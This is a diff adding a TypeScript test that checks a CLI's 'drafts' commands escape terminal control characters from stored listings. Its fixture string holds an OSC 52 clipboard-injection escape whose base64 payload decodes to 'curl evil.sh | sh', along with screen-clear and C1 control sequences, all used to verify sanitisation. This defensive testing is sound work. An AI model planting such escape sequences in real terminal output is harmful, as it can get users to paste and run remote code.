@@ -40,6 +40,35 @@ async function run(args: string[], env: NodeJS.ProcessEnv = {}) {
   return { code, out: io.out(), err: io.err(), lines: io.out().trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>) };
 }
 
+describe('hardening #4 (control characters never reach a terminal)', () => {
+  // An OSC 52 clipboard write, a CSI screen clear, a C1 CSI and a bell, as a listing stored by an
+  // older version (or any other source) could still carry them.
+  const HOSTILE = 'Evil\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 Agent\u001b[2J\u009b31m\u0085';
+
+  it('hardening #4: drafts list and show escape control characters from stored listings, on a TTY and in JSON lines', async () => {
+    const data = mkdtempSync(join(tmpdir(), 'td-drafts-'));
+    const store = new FileStore({ root: data });
+    await store.listings.put(createListing({ title: HOSTILE }));
+    await store.drafts.save(createDraft({ assessment: { ...createAssessment(), summary: `Summary ${HOSTILE}` } }), null);
+    await store.close();
+    const controls = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;
+    for (const args of [['drafts', 'list'], ['drafts', 'show', 'acme-ops-agent.r1']]) {
+      const tty = captureIo({ tty: true });
+      expect(await main([...args, '--data', data], tty)).toBe(0);
+      expect(tty.out()).not.toMatch(controls);
+      expect(tty.out()).toContain('Evil\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 Agent\\u001b[2J\\u009b31m\\u0085');
+      const json = captureIo();
+      expect(await main([...args, '--data', data, '--json'], json)).toBe(0);
+      expect(json.out()).not.toMatch(controls);
+      // Escaped inside JSON strings, the value is the same: machines still read the stored text.
+      expect(json.out()).toContain(JSON.stringify(HOSTILE).slice(1, -1).replace('\u009b', '\\u009b').replace('\u0085', '\\u0085'));
+    }
+    const listed = captureIo();
+    await main(['drafts', 'list', '--data', data, '--json'], listed);
+    expect((JSON.parse(listed.out().split('\n')[0]!) as { title: string }).title).toBe(HOSTILE);
+  });
+});
+
 describe('threatdraft drafts', () => {
   it('lists drafts highest score first with a summary line last, and filters by status', async () => {
     const { data } = await seeded();
